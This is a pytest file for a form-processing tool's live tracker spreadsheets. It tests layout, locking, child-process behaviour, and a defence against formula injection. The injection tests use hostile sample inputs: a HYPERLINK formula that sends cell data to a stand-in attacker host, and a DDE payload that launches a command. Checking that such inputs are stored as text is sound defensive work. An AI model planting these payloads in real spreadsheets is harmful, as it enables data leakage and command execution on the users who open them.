"""The live tracker in the outbox: what it holds, that it is rewritten after each change
to the register, and that a tracker someone has open is skipped and retried, never
waited on."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import fcntl
import logging
import os
import re
import sqlite3
import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook
from service_support import (
    CHILD_NAME,
    drop_json,
    fake_pipeline,
    make_challenge,
    new_form,
    start_watch,
    stop_watch,
    wait_for,
)

from filled_forms import fill_docx
from formflow.cli import main
from formflow.config import Settings
from formflow.core.calendar import WorkingCalendar
from formflow.core.engine import assess
from formflow.core.record import Challenge, Closure, ClosureKind
from formflow.outbox.folders import Home
from formflow.pipeline import Outcome
from formflow.policy_catalogue import PolicyCatalogue, built_in
from formflow.reports import tracker
from formflow.reports.tables import EXPORT_COLUMNS, OVERDUE_FILL
from formflow.store.register import Register

TODAY = dt.date(2025, 11, 20)
OVERDUE = make_challenge(reference="PC-2025-AAAAAA")  # stage 1 from 3 November: due the 10th
CLOSED = make_challenge(
    reference="PC-2025-BBBBBB",
    closure=Closure(dt.date(2025, 11, 7), ClosureKind.RESOLVED, "Resolved at Stage 1."),
)


def write(outbox: Path) -> tracker.TrackerResult:
    return tracker.write_tracker(outbox, [OVERDUE, CLOSED], built_in(), WorkingCalendar(), TODAY)


def test_both_trackers_hold_the_export_columns_with_filters_frozen_headers_and_overdue_in_red(
    tmp_path: Path,
) -> None:
    result = write(tmp_path)
    assert sorted(p.name for p in result.written) == ["tracker.csv", "tracker.xlsx"]
    assert result.skipped == []
    sheet = load_workbook(tmp_path / "tracker.xlsx").active
    assert [c.value for c in sheet[1]] == list(EXPORT_COLUMNS)
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:N3"
    overdue, closed = sheet[2], sheet[3]
    assert overdue[0].value == "PC-2025-AAAAAA"
    assert all(c.fill.fgColor.rgb.endswith(OVERDUE_FILL) for c in overdue)
    assert not any(c.fill.fgColor.rgb.endswith(OVERDUE_FILL) for c in closed)
    with (tmp_path / "tracker.csv").open(encoding="utf-8-sig") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == list(EXPORT_COLUMNS)
    assert [r[0] for r in rows[1:]] == ["PC-2025-AAAAAA", "PC-2025-BBBBBB"]
    text = (tmp_path / "tracker.csv").read_text(encoding="utf-8-sig")
    assert CHILD_NAME not in text and "T.E." in text


def test_rewritten_whole_with_no_temporary_file_left_and_owner_only(tmp_path: Path) -> None:
    write(tmp_path)
    write(tmp_path)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["tracker.csv", "tracker.xlsx"]
    assert (tmp_path / "tracker.xlsx").stat().st_mode & 0o777 == 0o600


@pytest.mark.parametrize(
    "owner",
    ["~$tracker.xlsx", "~$acker.xlsx", ".~lock.tracker.xlsx#"],
    ids=["excel", "short", "lo"],
)
def test_a_tracker_open_in_office_is_skipped_and_the_other_still_written(
    tmp_path: Path, owner: str
) -> None:
    write(tmp_path)
    before = (tmp_path / "tracker.xlsx").read_bytes()
    (tmp_path / owner).write_bytes(b"someone")
    result = write(tmp_path)
    assert [p.name for p in result.skipped] == ["tracker.xlsx"]
    assert [p.name for p in result.written] == ["tracker.csv"]
    assert (tmp_path / "tracker.xlsx").read_bytes() == before


def test_a_tracker_another_process_has_locked_is_skipped_without_waiting(tmp_path: Path) -> None:
    write(tmp_path)
    fd = os.open(tmp_path / "tracker.csv", os.O_RDONLY)
    try:
        fcntl.flock(fd, fcntl.LOCK_EX)
        done = threading.Event()
        result: list[tracker.TrackerResult] = []
        worker = threading.Thread(target=lambda: (result.append(write(tmp_path)), done.set()))
        worker.start()
        assert done.wait(10), "write_tracker waited for the lock"
        assert [p.name for p in result[0].skipped] == ["tracker.csv"]
    finally:
        os.close(fd)
    assert write(tmp_path).skipped == []


def test_the_writer_coalesces_changes_and_retries_a_skipped_tracker() -> None:
    calls: list[float] = []
    skipped_once = threading.Event()
    retried = threading.Event()

    def refresh(_stopping: Callable[[], bool]) -> tracker.TrackerResult:
        calls.append(1)
        if not skipped_once.is_set():
            skipped_once.set()
            return tracker.TrackerResult(skipped=[Path("tracker.xlsx")])
        retried.set()
        return tracker.TrackerResult(written=[Path("tracker.xlsx")])

    writer = tracker.TrackerWriter(settle=0.05, retry=0.2).start(refresh)
    try:
        assert skipped_once.wait(5)
        assert retried.wait(5), "a skipped tracker was not tried again"
        count = len(calls)
        for _ in range(20):
            writer.changed()
        assert len(calls) <= count + 2
    finally:
        writer.stop()


def test_a_stop_during_a_rewrite_writes_neither_file(tmp_path: Path) -> None:
    """The service stops while the spreadsheets are being made: no file is begun after
    that, so nothing is left half written and the old trackers stay as they were."""
    write(tmp_path)
    before = {p.name: p.read_bytes() for p in tmp_path.iterdir()}
    asked: list[bool] = []

    def stop_once_begun() -> bool:
        asked.append(True)
        return len(asked) > 1  # the first look says go on; the stop comes meanwhile

    later = dt.date(2026, 12, 1)  # a day on which the trackers would say something else
    result = tracker.write_tracker(
        tmp_path, [OVERDUE, CLOSED], built_in(), WorkingCalendar(), later, stopping=stop_once_begun
    )
    assert result.written == []
    assert {p.name: p.read_bytes() for p in tmp_path.iterdir()} == before


def test_a_stop_waits_only_briefly_for_a_rewrite_under_way() -> None:
    """A rewrite that would take 30 s more (a large register on a loaded machine) does
    not hold a stop: ``stop()`` returns after ``stop_wait``, and the rewrite, told the
    service is stopping, writes nothing."""
    begun, heard_stop = threading.Event(), threading.Event()

    def slow_refresh(stopping: Callable[[], bool]) -> tracker.TrackerResult:
        begun.set()
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline and not stopping():
            time.sleep(0.01)
        if stopping():
            heard_stop.set()
        return tracker.TrackerResult()

    writer = tracker.TrackerWriter(settle=0.01, stop_wait=0.5).start(slow_refresh)
    assert begun.wait(5)
    started = time.monotonic()
    writer.stop()
    assert time.monotonic() - started < 5
    assert heard_stop.wait(5)


def test_the_pipeline_calls_on_change_after_each_commit(tmp_path: Path) -> None:
    with Register(tmp_path / "var" / "formflow.db") as register:
        pipeline = fake_pipeline(tmp_path, register)
        changes: list[int] = []
        pipeline.services = dataclasses.replace(
            pipeline.services, on_change=lambda: changes.append(1)
        )
        form = make_challenge(reference=None)
        result = pipeline.handle(drop_json(pipeline.home.inbox, "a.docx", form))
        assert result.outcome is Outcome.PROCESSED
        assert changes == [1]
        later = dt.date(2025, 12, 31)
        assert pipeline.chase_deadlines(later)
        assert len(changes) == 2
        assert pipeline.chase_deadlines(later) == []
        assert len(changes) == 2


def test_refresh_reads_the_register(tmp_path: Path) -> None:
    with Register(tmp_path / "var" / "formflow.db") as register:
        pipeline = fake_pipeline(tmp_path, register)
        pipeline.handle(drop_json(pipeline.home.inbox, "a.docx", make_challenge(reference=None)))
        result = tracker.refresh(
            register,
            pipeline.home.outbox,
            pipeline.services.policies,
            pipeline.services.settings,
            TODAY,
        )
    assert len(result.written) == 2
    sheet = load_workbook(pipeline.home.outbox / "tracker.xlsx").active
    assert sheet.max_row == 2


# --- text typed on a form stays text ------------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"Click me")'
FORMULA_STARTS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\tbefore", "\rbefore"]


def _cells(path: Path, reference: str) -> dict[str, str]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    row = next(r for r in rows if r[0] == reference)
    return dict(zip(rows[0], row, strict=True))


@pytest.mark.parametrize("typed", FORMULA_STARTS, ids=["=", "+", "-", "@", "tab", "cr"])
def test_a_team_typed_like_a_formula_is_text_in_both_trackers(tmp_path: Path, typed: str) -> None:
    challenge = make_challenge(reference="PC-2025-CCCCCC", team=typed)
    tracker.write_tracker(tmp_path, [challenge], built_in(), WorkingCalendar(), TODAY)
    assert _cells(tmp_path / "tracker.csv", "PC-2025-CCCCCC")["Team"] == f"'{typed}"
    team = load_workbook(tmp_path / "tracker.xlsx").active["F2"]
    assert (team.value, team.data_type) == (typed, "s")


def test_ordinary_text_is_written_unchanged(tmp_path: Path) -> None:
    tracker.write_tracker(tmp_path, [OVERDUE], built_in(), WorkingCalendar(), TODAY)
    cells = _cells(tmp_path / "tracker.csv", "PC-2025-AAAAAA")
    assert cells["Team"] == "Children in Care Team 2" and cells["Due"] == "2025-11-10"


def test_a_form_typed_with_formulas_is_text_in_the_tracker_and_the_export(tmp_path: Path) -> None:
    """A real form through `formflow process` and `formflow export`: the team and the
    case number Excel would run are text in tracker.xlsx, tracker.csv and both exports."""
    home = tmp_path / "home"
    runner = CliRunner()
    sample = tmp_path / "sample.docx"
    made = runner.invoke(main, ["new", "--sample", "--home", str(home), "-o", str(sample)])
    assert made.exit_code == 0, made.output
    typed = {"team": HYPERLINK, "child_case_number": "@SUM(1+1)*cmd|' /C calc'!A0"}
    form = fill_docx(sample, tmp_path / "challenge.docx", typed)
    processed = runner.invoke(main, ["process", "--home", str(home), str(form)])
    assert processed.exit_code == 0, processed.output
    reference = processed.output.split()[-1]
    files = ["--csv", str(tmp_path / "e.csv"), "--xlsx", str(tmp_path / "e.xlsx")]
    exported = runner.invoke(main, ["export", "--home", str(home), *files])
    assert exported.exit_code == 0, exported.output
    for csv_file in (home / "outbox" / "tracker.csv", tmp_path / "e.csv"):
        cells = _cells(csv_file, reference)
        assert (cells["Team"], cells["Case number"]) == (
            f"'{HYPERLINK}",
            f"'{typed['child_case_number']}",
        )
    for workbook in (home / "outbox" / "tracker.xlsx", tmp_path / "e.xlsx"):
        sheet = load_workbook(workbook).active
        row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == reference)
        case_number = row[EXPORT_COLUMNS.index("Case number")]
        team = row[EXPORT_COLUMNS.index("Team")]
        assert (team.value, team.data_type) == (HYPERLINK, "s")
        assert (case_number.value, case_number.data_type) == (typed["child_case_number"], "s")


# --- dates and overdue, as a spreadsheet program reads them ---------------------------


def _row_of(sheet: Any, reference: str) -> dict[str, Any]:
    rows = list(sheet.iter_rows())
    header = [c.value for c in rows[0]]
    [row] = [r for r in rows[1:] if r[0].value == reference]
    return dict(zip(header, row, strict=True))


def test_dates_are_real_dates_in_a_uk_format_in_the_workbook_and_iso_in_the_csv(
    tmp_path: Path,
) -> None:
    write(tmp_path)
    sheet = load_workbook(tmp_path / "tracker.xlsx").active
    closed = _row_of(sheet, "PC-2025-BBBBBB")
    raised, closed_on = closed["Date raised"], closed["Closed"]
    assert raised.value == dt.datetime(2025, 11, 3)
    assert closed_on.value == dt.datetime(2025, 11, 7)
    due = _row_of(sheet, "PC-2025-AAAAAA")["Due"]
    assert due.value == dt.datetime(2025, 11, 10)
    for cell in (raised, closed_on, due):
        assert cell.is_date and cell.number_format == "dd/mm/yyyy"
    assert _row_of(sheet, "PC-2025-AAAAAA")["Team"].data_type == "s"
    cells = _cells(tmp_path / "tracker.csv", "PC-2025-BBBBBB")
    assert (cells["Date raised"], cells["Closed"]) == ("2025-11-03", "2025-11-07")


def test_the_csv_and_the_workbook_say_which_rows_are_overdue(tmp_path: Path) -> None:
    write(tmp_path)
    assert _cells(tmp_path / "tracker.csv", "PC-2025-AAAAAA")["Overdue"] == "Yes"
    assert _cells(tmp_path / "tracker.csv", "PC-2025-BBBBBB")["Overdue"] == "No"
    sheet = load_workbook(tmp_path / "tracker.xlsx").active
    assert _row_of(sheet, "PC-2025-AAAAAA")["Overdue"].value == "Yes"


def _register_of(register: str | Path, *challenges: Challenge) -> None:
    with Register(register) as opened:
        for c in challenges:
            assessed = assess(c, built_in()(c.policy), WorkingCalendar(), TODAY)
            opened.save_challenge(c, assessed, dt.datetime(2025, 11, 3, 9))


def _registered(home: Path, *challenges: Challenge) -> None:
    _register_of(home / "var" / "formflow.db", *challenges)


def test_export_xlsx_marks_overdue_rows_in_red_and_the_csv_says_so(tmp_path: Path) -> None:
    _registered(tmp_path, OVERDUE, CLOSED)
    xlsx, csv_file = tmp_path / "export.xlsx", tmp_path / "export.csv"
    files = ["--xlsx", str(xlsx), "--csv", str(csv_file), "--today", TODAY.isoformat()]
    result = CliRunner().invoke(main, ["export", "--home", str(tmp_path), *files])
    assert result.exit_code == 0, result.output
    sheet = load_workbook(xlsx).active
    overdue, closed = sheet[2], sheet[3]
    assert overdue[0].value == "PC-2025-AAAAAA"
    assert all(c.fill.fgColor.rgb.endswith(OVERDUE_FILL) for c in overdue)
    assert not any(c.fill.fgColor.rgb.endswith(OVERDUE_FILL) for c in closed)
    assert _cells(csv_file, "PC-2025-AAAAAA")["Overdue"] == "Yes"


def test_a_command_refreshes_the_live_workbook_with_the_new_date(tmp_path: Path) -> None:
    """``formflow extend`` rewrites tracker.xlsx at once, its Due cell the new date."""
    today = dt.date.today()
    challenge = make_challenge(reference="PC-2025-DDDDDD", date_of_notification=today)
    _registered(tmp_path, challenge)
    later = WorkingCalendar().add_working_days(today, 15)
    who = ["--by", "Kemi Adeyemi, business support", "--reason", "Manager on leave"]
    result = CliRunner().invoke(
        main, ["extend", "PC-2025-DDDDDD", "--to", later.isoformat(), "--home", str(tmp_path), *who]
    )
    assert result.exit_code == 0, result.output
    sheet = load_workbook(tmp_path / "outbox" / "tracker.xlsx").active
    due = _row_of(sheet, "PC-2025-DDDDDD")["Due"]
    assert due.value == dt.datetime.combine(later, dt.time())
    assert _cells(tmp_path / "outbox" / "tracker.csv", "PC-2025-DDDDDD")["Due"] == later.isoformat()


# --- made in a child process, at a lower priority ------------------------------------


def _in_child(register: str | Path, outbox: Path) -> tracker.Refresh:
    settings = Settings()
    policies = PolicyCatalogue.for_home(outbox.parent, settings)
    return tracker.refresher_in_child(register, outbox, policies, settings, lambda: TODAY)


def _made_by(caplog: pytest.LogCaptureFixture) -> list[tuple[int, int]]:
    """(process, niceness) of each tracker made, as the log says."""
    made = [r for r in caplog.records if r.getMessage().startswith("the trackers were made")]
    return [(int(r.args[0]), int(r.args[1])) for r in made]  # type: ignore[index]


def _started(caplog: pytest.LogCaptureFixture) -> list[int]:
    """The process of each tracker begun, as the log says."""
    begun = [r for r in caplog.records if r.getMessage().endswith("makes the trackers")]
    return [int(r.args[0]) for r in begun]  # type: ignore[index]


def test_the_service_s_trackers_are_made_by_a_child_at_a_lower_priority_and_are_the_same(
    tmp_path: Path, register_url: str, caplog: pytest.LogCaptureFixture
) -> None:
    """The watcher's and the dashboard's refresh, over a register on either engine: another
    process, niced, makes the spreadsheets (their CPU no longer competes with the requests
    and forms), and they hold what ``write_tracker`` writes in this process."""
    _register_of(register_url, OVERDUE, CLOSED)
    outbox = tmp_path / "outbox"
    with caplog.at_level(logging.INFO, logger="formflow.reports.tracker"):
        result = _in_child(register_url, outbox)(lambda: False)
    assert sorted(p.name for p in result.written) == ["tracker.csv", "tracker.xlsx"]
    [(process, niceness)] = _made_by(caplog)
    assert process != os.getpid()
    assert niceness == min(19, os.nice(0) + tracker.TRACKER_NICENESS)  # 19 is the lowest
    here = tmp_path / "here"
    write(here)
    assert (outbox / "tracker.csv").read_bytes() == (here / "tracker.csv").read_bytes()
    made, expected = (load_workbook(f / "tracker.xlsx").active for f in (outbox, here))
    assert [[c.value for c in r] for r in made.iter_rows()] == [
        [c.value for c in r] for r in expected.iter_rows()
    ]
    assert sorted(p.name for p in outbox.iterdir()) == ["tracker.csv", "tracker.xlsx"]


def test_a_stop_while_the_child_makes_the_trackers_ends_it_and_leaves_them_as_they_were(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """The child is kept waiting on a register another program has locked (as it would be
    busy for half a minute making 50,000 rows): a stop returns within ``stop_wait``, the
    child is gone, and the trackers are as they were, with no temporary file beside them."""
    database = tmp_path / "var" / "formflow.db"
    _register_of(database, OVERDUE)
    outbox = tmp_path / "outbox"
    tracker.write_tracker(outbox, [CLOSED], built_in(), WorkingCalendar(), TODAY)
    before = {p.name: p.read_bytes() for p in outbox.iterdir()}
    locker = sqlite3.connect(database, isolation_level=None)
    locker.execute("PRAGMA locking_mode = EXCLUSIVE")
    locker.execute("BEGIN EXCLUSIVE")
    try:
        with caplog.at_level(logging.DEBUG, logger="formflow.reports.tracker"):
            writer = tracker.TrackerWriter(settle=0.01, stop_wait=5).start(
                _in_child(database, outbox)
            )
            wait_for(lambda: bool(_started(caplog)), 20, "the child to start")
            [child] = _started(caplog)
            time.sleep(0.5)  # it is reading the register, or waiting for it
            stopped = time.monotonic()
            writer.stop()
            # Back before stop_wait: the rewrite ended, its child killed and reaped.
            assert time.monotonic() - stopped < 5
    finally:
        locker.close()
    with pytest.raises(ProcessLookupError):
        os.kill(child, 0)
    assert {p.name: p.read_bytes() for p in outbox.iterdir()} == before
    assert _made_by(caplog) == []


def test_a_burst_of_changes_is_made_by_one_child(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    database = tmp_path / "var" / "formflow.db"
    _register_of(database, OVERDUE)
    with caplog.at_level(logging.DEBUG, logger="formflow.reports.tracker"):
        writer = tracker.TrackerWriter(settle=0.3).start(_in_child(database, tmp_path / "outbox"))
        try:
            wait_for(lambda: len(_made_by(caplog)) == 1, 60, "the first tracker")
            for _ in range(20):
                writer.changed()
            wait_for(lambda: len(_made_by(caplog)) == 2, 60, "the tracker after the burst")
            time.sleep(1)  # time enough for a third to start, were one due
        finally:
            writer.stop()
    assert len(_started(caplog)) == 2


def test_a_child_that_fails_says_why_and_the_next_change_is_made_afresh(tmp_path: Path) -> None:
    database = tmp_path / "var" / "formflow.db"
    database.parent.mkdir()
    database.write_text("not a register")
    refresh = _in_child(database, tmp_path / "outbox")
    with pytest.raises(tracker.TrackerProcessFailed, match="not a database"):
        refresh(lambda: False)
    assert not (tmp_path / "outbox").exists() or list((tmp_path / "outbox").iterdir()) == []
    database.unlink()
    _register_of(database, OVERDUE)
    assert len(refresh(lambda: False).written) == 2


def test_the_watcher_s_trackers_are_made_by_a_niced_process_other_than_the_watcher(
    tmp_path: Path,
) -> None:
    """``formflow watch -v`` over a dropped form: the tracker shows it, and the log says
    which process made it (neither the watcher nor at the watcher's priority)."""
    home = Home(tmp_path / "home")
    home.create()
    log = tmp_path / "watch.log"
    watcher = start_watch(home.root, log, "-v")
    try:
        wait_for(lambda: "Watching" in log.read_text(), 30, "the watcher to start")
        new_form(home.inbox, "challenge.docx")
        csv_file = home.outbox / "tracker.csv"
        wait_for(
            lambda: csv_file.exists() and "T.E." in csv_file.read_text("utf-8-sig"),
            90,
            "the tracker to show the dropped form",
        )
    finally:
        stop_watch(watcher)
    made = re.findall(r"the trackers were made by process (\d+) at niceness (\d+)", log.read_text())
    assert made, log.read_text()
    assert all(int(process) != watcher.pid for process, _ in made)
    assert all(int(niceness) >= tracker.TRACKER_NICENESS for _, niceness in made)


def test_a_tracker_made_before_another_process_changed_the_register_is_made_again(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A command in another process (`formflow withdraw`) writes the trackers itself after
    its commit, and cues nothing here: a child that read the register before that commit
    and is written after it left the older picture until the next change (seen as the
    randomised life test's "live tracker to agree" timing out)."""
    database = tmp_path / "var" / "formflow.db"
    _register_of(database, OVERDUE)
    made_in_child = tracker.made_in_child

    def read_then_overtaken(*args: Any) -> tuple[dict[str, bytes], int]:
        made = made_in_child(*args)
        with Register(database) as elsewhere:  # committed after the child's read
            elsewhere.add_event(OVERDUE.reference, "note", dt.datetime(2025, 11, 20, 9))
        return made

    monkeypatch.setattr(tracker, "made_in_child", read_then_overtaken)
    assert _in_child(database, tmp_path / "outbox")(lambda: False).stale
    monkeypatch.setattr(tracker, "made_in_child", made_in_child)
    assert not _in_child(database, tmp_path / "outbox")(lambda: False).stale


def test_the_writer_makes_a_stale_tracker_again_without_a_change() -> None:
    results = [tracker.TrackerResult(stale=True), tracker.TrackerResult()]
    calls: list[float] = []

    def refresh(_stopping: Callable[[], bool]) -> tracker.TrackerResult:
        calls.append(time.monotonic())
        return results[len(calls) - 1] if len(calls) <= len(results) else results[-1]

    writer = tracker.TrackerWriter(settle=0.01).start(refresh)  # one cue: the start
    try:
        wait_for(lambda: len(calls) == 2, 10, "the stale tracker to be made again")
        time.sleep(0.2)
        assert len(calls) == 2  # and then nothing more, with no change
    finally:
        writer.stop()
